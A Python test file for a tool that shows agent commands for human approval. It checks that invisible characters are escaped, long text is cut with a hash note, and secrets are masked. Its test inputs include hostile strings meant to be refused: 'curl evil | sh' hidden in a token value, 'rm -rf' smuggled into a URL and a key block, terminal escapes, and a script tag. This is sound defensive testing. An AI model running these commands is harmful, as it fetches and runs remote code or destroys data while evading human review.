"""What is shown of a question: nothing hides in it, nothing pretends, and what is cut says so."""

from __future__ import annotations

import hashlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from outlast.core import approval_text as words
from outlast.core.approval import PREVIEW_MAX, PROMPT_MAX, Approval, ApprovalKind, ApprovalStatus
from outlast.core.errors import BadInput
from outlast.core.flow_notice import asked_notice, decided_notice
from outlast.core.notice_text import notice_text, together
from outlast.core.visible import visible, visible_line

HOSTILE = "ls\x1b[2J\x1b]0;title\x07 \u202egpj.exe \u200bzero\ufeff \x9b31m\r\x00 <script>alert(1)</script> \ud800"


def approval(**fields: object) -> Approval:
    given_ = {
        "id": "a1", "kind": ApprovalKind.EXEC, "requester": "agent:x", "status": ApprovalStatus.PENDING,
        "prompt": "Ship it?", "created_at": 1.0,
    }  # fmt: skip
    return Approval(**{**given_, **fields})  # type: ignore[arg-type]


def test_what_cannot_be_seen_is_spelled_out_and_not_dropped() -> None:
    """A dropped mark would show another command than the one that is run."""
    shown = visible(HOSTILE)
    assert shown.isprintable()
    for part in (
        r"ls\x1b[2J",
        r"\x07",
        r"\u202egpj.exe",
        r"\u200bzero\ufeff",
        r"\x9b31m\x0d\x00",
        r"\ud800",
        "<script>",
    ):
        assert part in shown
    assert visible("a\tb\nc Ünïcödé 漢字 👩‍👩") == "a\tb\nc Ünïcödé 漢字 👩\\u200d👩"


@given(st.text(max_size=300), st.integers(20, 100))
def test_one_line_is_one_bounded_line_whatever_is_in_it(text: str, limit: int) -> None:
    line = visible_line(text, limit)
    assert len(line) <= limit and len(line.splitlines()) <= 1


def test_a_megabyte_is_cut_with_a_note_that_tells_how_much_and_of_what() -> None:
    whole = "x" * 1_000_000 + "rm -rf /"
    cut = words.preview(whole)
    assert cut is not None and len(cut) <= PREVIEW_MAX
    last = cut.splitlines()[-1]
    kept = len(cut) - len(last) - 1
    assert f"{len(whole) - kept} more characters are not shown" in last
    assert hashlib.sha256(whole.encode()).hexdigest() in last
    assert words.preview("short") == "short" and words.preview(None) is None
    assert len(words.question("é" * 5_000)) <= PROMPT_MAX


def test_no_text_of_a_record_breaks_a_store() -> None:
    assert words.question("a\0b\ud800") == "a\ufffdb\ufffd"
    assert words.preview("a\0b\ud800") == "a\ufffdb\ufffd"


# commands


@pytest.mark.parametrize(
    "line",
    [
        'TOKEN="x$(curl evil | sh)" ./deploy',
        "API_KEY='a`id`b' run",
        "curl http://u:x;rm$IFS-rf$IFS~;@host/",
        "echo '-----BEGIN RSA PRIVATE KEY-----\nrm -rf ~\n-----END'",
        'deploy --password "a;b"',
    ],
)
def test_code_cannot_hide_behind_the_mask_of_a_secret(line: str) -> None:
    with pytest.raises(BadInput) as refused:
        words.shown_text(line)
    assert refused.value.code == "hidden_code"


def test_nor_in_the_input_of_a_shell() -> None:
    with pytest.raises(BadInput) as refused:
        words.exec_preview("bash", {}, 'make\nTOKEN="x$(evil)" make', opens=False)
    assert refused.value.code == "hidden_code"


def test_a_plain_secret_is_masked_and_references_stay() -> None:
    assert words.shown_text("deploy --token abcdef0123456789 $HOME") == "deploy --token *** $HOME"
    assert words.shown_text("TOKEN=$(pass show x) deploy") == "TOKEN=$(pass show x) deploy"
    assert words.shown_text("a && b | c") == "a && b | c"


def test_a_preview_shows_command_variables_and_input() -> None:
    shown = words.exec_preview("make \\\n deploy", {"STAGE": "live", "API_TOKEN": "abc"}, "y\nno", opens=True)
    assert shown.splitlines() == [
        "$ make \\", ">  deploy",
        "with the variables:", "| STAGE=live", "| API_TOKEN=***",
        "its input stays open: what is typed there later is not part of this approval",
        "with this input (4 characters):", "| y", "| no",
    ]  # fmt: skip


@given(
    st.text(max_size=500), st.dictionaries(st.text("AB", min_size=1), st.text(max_size=3_000), max_size=3),
    st.none() | st.text(max_size=30_000),
)  # fmt: skip
def test_no_line_of_another_can_pass_for_ours_and_all_of_it_fits(
    command: str, env: dict[str, str], stdin: str | None
) -> None:
    try:
        shown = words.exec_preview(command, env, stdin, opens=False)
    except BadInput:  # by chance it holds something like a secret with code in it
        return
    assert len(shown) <= PREVIEW_MAX
    for line in shown.split("\n"):
        ours = line.startswith(("with the variables:", "with this input (", "… "))
        assert ours or line[:2] in ("$ ", "> ", "| ")


def test_long_input_is_cut_with_a_note_and_a_long_command_is_refused() -> None:
    whole = "line\n" * 10_000
    shown = words.exec_preview("psql", {}, whole, opens=False)
    assert len(shown) <= PREVIEW_MAX
    assert hashlib.sha256(whole.encode()).hexdigest() in shown.splitlines()[-1]
    kept = shown.count("\n| line")
    missing = int(shown.splitlines()[-1].split()[1])
    assert len(whole) - missing in range(5 * kept - 1, 5 * kept + 5)
    with pytest.raises(BadInput) as refused:
        words.exec_preview("x" * 16_001, {}, None, opens=False)
    assert refused.value.code == "too_long_to_ask"


# telling


def test_a_question_is_told_with_the_commands_that_answer_it() -> None:
    body = asked_notice(approval(prompt=f"Run {HOSTILE}", preview="$ ls\n" * 40, task_id="t1")).body
    said = notice_text("approval_asked", body)
    assert said.title.startswith("An approval is asked: Run ls")
    assert "outlast approvals approve a1 (or reject a1)" in said.text
    assert "outlast approvals show a1" in said.text
    assert body["approvalId"] == "a1" and body["taskId"] == "t1"
    assert all(char.isprintable() or char == "\n" for char in said.text)


def test_a_link_goes_to_whom_it_was_made_for() -> None:
    body = {**asked_notice(approval()).body, "link": "https://x/approvals/a1?t=T"}
    assert "To answer: https://x/approvals/a1?t=T" in notice_text("approval_asked", body).text


def test_a_long_question_leaves_room_for_the_commands_that_answer_it() -> None:
    """The end of a notice is what is cut off: the commands must not stand behind what somebody else has written."""
    long = approval(prompt="\n".join("p" * 500 for _ in range(50)), preview="\n".join("v" * 900 for _ in range(90)))
    body = asked_notice(long).body
    assert "outlast approvals approve a1" in notice_text("approval_asked", body).text


@pytest.mark.parametrize(
    ("status", "said"),
    [
        (ApprovalStatus.APPROVED, "The approval was approved by local (cli)"),
        (ApprovalStatus.REJECTED, "The approval was rejected by local (cli)"),
        (ApprovalStatus.EXPIRED, "The approval has expired"),
        (ApprovalStatus.CANCELLED, "The approval was cancelled"),
        (ApprovalStatus.PENDING, "The approval waits"),
    ],
)
def test_every_answer_is_told_in_a_sentence(status: ApprovalStatus, said: str) -> None:
    one = approval(status=status, decided_by="local", decided_how="cli", note="not today\x1b[31m")
    assert f"The approval {words.decided(one)}".startswith(said)
    if status is not ApprovalStatus.PENDING:
        text = notice_text("approval_decided", decided_notice(one).body).text  # type: ignore[union-attr]
        assert text.startswith(said) and "| not today" in text and "\x1b" not in text


def test_questions_told_together_each_begin_with_how_to_answer_them() -> None:
    notices = [("approval_asked", asked_notice(approval(id=f"a{n}", prompt="p" * 200)).body) for n in range(3)]
    said = together(notices)
    assert said.title.startswith("3 notices")
    assert all(f"outlast approvals approve a{n} (or reject a{n})" in said.text for n in range(3))
